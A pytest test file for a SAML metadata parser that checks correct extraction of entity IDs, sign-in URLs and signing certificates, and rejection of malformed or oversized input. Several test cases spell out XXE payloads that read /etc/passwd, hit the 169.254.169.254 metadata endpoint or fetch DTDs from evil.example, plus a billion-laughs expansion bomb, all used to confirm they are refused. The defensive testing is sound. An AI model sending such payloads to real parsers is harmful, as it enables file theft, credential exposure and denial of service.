"""SAML metadata that somebody else wrote: read for what is needed, and refused when it tries anything."""

import time

import pytest

from app.sso import metadata
from app.sso.findings import Fault
from tests.sso import provider
from tests.sso.provider import POST, REDIRECT, a_certificate, bare

NAME = "metadata_xml"
ENTITY = '<!ENTITY a "x">'
BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def test_what_is_needed_is_read() -> None:
    first, second = a_certificate(), a_certificate(days=700)
    found = metadata.read(provider.metadata(first, second, first), name=NAME)
    assert found.entity_id == "https://idp.example/entity"
    assert found.sso_url == "https://idp.example/sso"
    assert found.sso_urls.keys() == {POST, REDIRECT}
    assert found.certificates == [bare(first), bare(second)]
    assert found.valid_until is None


def test_it_may_be_bytes_or_text_in_any_encoding_that_xml_has() -> None:
    text = provider.metadata(a_certificate(), entity_id="https://b\u00fccher.example")
    for document in (
        text,
        text.encode(),
        b"\xef\xbb\xbf" + text.encode(),
        text.encode("utf-16"),
        f'<?xml version="1.0" encoding="ISO-8859-1"?>{text}'.encode("latin-1"),
        f'<?xml version="1.0" encoding="UTF-16"?>{text}',
    ):
        assert metadata.read(document, name=NAME).entity_id == "https://b\u00fccher.example"


def test_the_entity_may_stand_among_others_and_inside_of_a_list() -> None:
    one = provider.metadata(a_certificate())
    service = '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="sp"/>'
    listed = (
        f'<m:EntitiesDescriptor xmlns:m="urn:oasis:names:tc:SAML:2.0:metadata">{service}{one}</m:EntitiesDescriptor>'
    )
    assert metadata.read(listed, name=NAME).entity_id == "https://idp.example/entity"
    with pytest.raises(Fault, match="several identity providers"):
        metadata.read(listed.replace(service, one), name=NAME)


@pytest.mark.parametrize(("bindings", "found"), [((POST,), True), ((REDIRECT,), True), (("urn:x:Artifact",), False)])
def test_a_sign_in_is_sent_where_workos_sends_it(bindings: tuple[str, ...], found: bool) -> None:  # noqa: FBT001 -- pytest passes it
    assert bool(metadata.read(provider.metadata(a_certificate(), bindings=bindings), name=NAME).sso_url) is found


@pytest.mark.parametrize(("use", "count"), [("signing", 1), (None, 1), ("encryption", 0)])
def test_only_what_signs_is_a_signing_certificate(use: str | None, count: int) -> None:
    assert len(metadata.read(provider.metadata(a_certificate(), use=use), name=NAME).certificates) == count


def test_the_documents_own_signature_and_other_roles_are_not_the_providers() -> None:
    other = bare(a_certificate(days=3))
    data = f"<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{other}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"
    found = metadata.read(
        provider.metadata(
            a_certificate(),
            before=f"<ds:Signature>{data}</ds:Signature>",
            inside=f"<ds:Signature>{data}</ds:Signature>",
            after=f"<md:SPSSODescriptor><md:KeyDescriptor>{data}</md:KeyDescriptor></md:SPSSODescriptor>",
        ),
        name=NAME,
    )
    assert other not in found.certificates
    assert len(found.certificates) == 1


def test_until_when_it_is_good_is_read() -> None:
    found = metadata.read(provider.metadata(attributes=' validUntil="2026-11-01T00:00:00Z"'), name=NAME)
    assert found.valid_until is not None
    assert found.valid_until.year == 2026


@pytest.mark.parametrize(
    ("document", "why"),
    [
        ("", "no XML"),
        ("hello", "no XML"),
        ("<a>", "no XML"),
        ("<a></b>", "no XML"),
        (b"\xff\xfe\x00", "no XML"),
        (b'<?xml version="1.0" encoding="x-no-such"?><a/>', "no XML"),
        (b'<?xml version="1.0" encoding="UTF-7"?><a/>', "no XML|no SAML"),
        ("\ud800", "no XML"),
        ("<a>\x00</a>", "no XML"),
        ("<a>&nbsp;</a>", "no XML"),
        ("<html/>", "no SAML metadata"),
        ('<EntityDescriptor entityID="x"><IDPSSODescriptor/></EntityDescriptor>', "no SAML metadata"),
        ('<e:EntityDescriptor xmlns:e="urn:oasis:names:tc:SAML:2.0:metadata"/>', "no identity provider"),
        ("<a>" * 65 + "</a>" * 65, "deep"),
    ],
    ids=ascii,
)
def test_what_is_no_metadata_is_refused(document: str | bytes, why: str) -> None:
    with pytest.raises(Fault, match=why) as fault:
        metadata.read(document, name=NAME)
    assert fault.value.field == NAME


@pytest.mark.parametrize(
    "declared",
    [
        "<!DOCTYPE a>",
        f"<!DOCTYPE a [{ENTITY}]>",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
        '<!DOCTYPE a SYSTEM "http://169.254.169.254/evil.dtd">',
        '<!DOCTYPE a PUBLIC "-//x//EN" "https://evil.example/evil.dtd">',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]>',
        "<!DOCTYPE a [<!ELEMENT a ANY><!ATTLIST a b CDATA 'c'>]>",
        '<!DOCTYPE a [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "u" NDATA n>]>',
        f'<!DOCTYPE a [<!ENTITY l0 "lol">{BOMB}]>',
    ],
)
def test_declarations_end_the_reading_before_anything_is_expanded(declared: str) -> None:
    body = provider.metadata(a_certificate(), entity_id="&l9;" if "l9" in declared else "x")
    began = time.perf_counter()
    for document in (declared + body, (declared + body).encode("utf-16")):
        with pytest.raises(Fault, match="declares a document type"):
            metadata.read(document, name=NAME)
    assert time.perf_counter() - began < 1


def test_it_is_no_larger_than_one_providers_may_be() -> None:
    with pytest.raises(Fault, match="larger"):
        metadata.read(b"<a>" + b"x" * metadata.LONGEST, name=NAME)
    with pytest.raises(Fault, match="too long"):
        metadata.read(provider.metadata(f"-\n{'A' * 40_000}\n-"), name=NAME)
    with pytest.raises(Fault, match="more than 10"):
        metadata.read(provider.metadata(*(f"-\n{n}\n-" for n in range(11))), name=NAME)


def test_many_small_pieces_cost_no_more_than_one() -> None:
    began = time.perf_counter()
    with pytest.raises(Fault, match="too long"):
        metadata.read(provider.metadata("-\n" + "&#65;" * 40_000 + "\n-"), name=NAME)
    assert time.perf_counter() - began < 1
